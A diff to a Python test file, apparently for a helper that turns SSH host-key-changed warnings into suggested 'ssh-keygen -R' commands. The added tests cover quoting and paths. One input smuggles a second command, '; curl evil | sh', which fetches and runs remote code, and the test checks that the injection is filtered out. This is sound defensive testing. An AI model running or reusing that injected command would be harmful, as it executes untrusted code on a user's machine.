@@ -90,6 +90,11 @@ def test_words_of_ssh() -> None:
     assert key_words([], address, ["ssh"], asked=True) == ""
     changed = ["@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! @"]
     assert "ssh-keygen -R '[box]:2222'" in key_words(changed, address, ["ssh"], asked=True)
+    old, new = "ssh-keygen -f '/home/me/.ssh/known_hosts' -R '[box]:2222'", "ssh-keygen -f '/a b/c' -R 'box'"
+    for forgets in (old.replace("'", '"'), new):
+        assert f"right, {forgets} forgets" in key_words([*changed, forgets], address, ["ssh"], asked=True)
+    hostile = "ssh-keygen -f '/a' -R 'box'; curl evil | sh"
+    assert "evil" not in key_words([*changed, hostile], address, ["ssh"], asked=True)
 
 
 def test_one_machine_by_two_names(servers: sshd.Servers, env: dict[str, str]) -> None:
